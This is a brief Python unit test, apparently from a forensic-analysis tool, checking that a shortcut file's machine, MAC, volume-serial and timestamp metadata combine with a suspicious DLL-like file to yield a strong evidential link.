def test_what_is_strong_only_together_is_judged_by_all_of_it() -> None:
    made_there = Lnk(
        machine_id="user-pc",
        mac="08:00:27:92:24:e5",
        volume_serial="C4B2-BD1C",
        droid_time=datetime(2016, 10, 6, 17, 3, 4, tzinfo=timezone.utc),
    )
    link = on_disk("C:\\a.lnk")
    assert link.file is not None
    link.file.lnk = made_there
    found = judged(on_disk("C:\\cyzfc.dat", "DLLMain"), link)

    assert (found.strength, found.excluded_by) == (Strength.STRONG, None)
